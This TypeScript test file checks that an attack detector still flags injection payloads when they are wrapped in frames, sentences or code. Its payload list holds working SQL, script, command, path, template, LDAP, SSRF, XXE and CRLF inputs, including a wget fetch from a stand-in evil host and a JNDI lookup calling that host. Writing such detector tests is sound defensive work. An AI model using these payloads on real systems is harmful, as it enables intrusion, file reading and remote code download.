/** A sender chooses the frame, so a frame must not change what a detector finds in its content. */
import { deepEqual, ok } from 'node:assert/strict';
import { test } from 'node:test';
import { type AttackKind, attackKinds, inspectText, sureMin } from '#detection';
import { frames } from './testing.ts';

const payloads: readonly (readonly [AttackKind, string])[] = [
  ['sql', "x' and sleep(5)-- "],
  ['sql', "x' union select 1,2--"],
  ['sql', "' or '1'='1"],
  ['sql', '1; drop table users--'],
  ['script', '<svg/onload=alert(1)>'],
  ['script', '<script>alert(1)</script>'],
  ['script', '" onfocus=alert(1) autofocus="'],
  ['script', "';alert(1)//"],
  ['command', '; cat /etc/passwd'],
  ['command', ';wget http://evil.example/x -O /tmp/x'],
  ['command', '$(cat /etc/passwd)'],
  ['command', 'powershell -enc ZQBjAGgAbwA='],
  ['path', '../../../../etc/passwd'],
  ['path', '/etc/passwd'],
  ['code', '{{7*7}}'],
  ['code', '${jndi:ldap://evil.example/a}'],
  ['code', "<?php system('id'); ?>"],
  ['nosql', "' || this.password.match(/^a/)//"],
  ['ldap', '*)(uid=*))(|(uid=*'],
  ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
  ['deserialisation', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
  ['xxe', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['crlf', 'x\r\nSet-Cookie: a=b'],
];

function isSure(kind: AttackKind, text: string): boolean {
  return inspectText(text).some((found) => found.kind === kind && found.confidence >= sureMin);
}

test('inspectText is as sure of an attack in a frame as of the attack alone, for every kind and frame', () => {
  deepEqual(new Set(payloads.map(([kind]) => kind)), new Set(attackKinds));
  const missed: string[] = [];
  for (const [kind, payload] of payloads) {
    ok(isSure(kind, payload), payload);
    for (const [name, write] of Object.entries(frames))
      if (!isSure(kind, write(payload))) missed.push(`${name}: ${payload}`);
  }
  deepEqual(missed, []);
});

test('inspectText is sure of an injection in a frame with sentences or lines of code around it', () => {
  const surroundings: Readonly<Record<string, (text: string) => string>> = {
    'a sentence': (text) => `See ${text} in it`,
    lines: (text) => `let a = 1;\nlet b = 2;\nfoo(a, b);\n${text}\nbar(b);\nreturn a;\n`,
  };
  const injections = payloads.filter(([, payload]) =>
    [
      "x' union select 1,2--",
      '<svg/onload=alert(1)>',
      '; cat /etc/passwd',
      '{{7*7}}',
      '*)(uid=*))(|(uid=*',
    ].includes(payload),
  );
  const missed: string[] = [];
  for (const [kind, payload] of injections)
    for (const [around, write] of Object.entries(surroundings))
      for (const [name, writeFrame] of Object.entries(frames))
        if (!isSure(kind, write(writeFrame(payload)))) missed.push(`${around}, ${name}: ${payload}`);
  deepEqual(missed, []);
});

test('inspectText reads a frame in a frame, and names what was undone', () => {
  const [found] = inspectText('<pre><code class="language-sh">/etc/passwd</code></pre>');
  deepEqual([found?.kind, found?.read, found?.undone], ['path', '/etc/passwd', ['a frame', 'a frame']]);
});
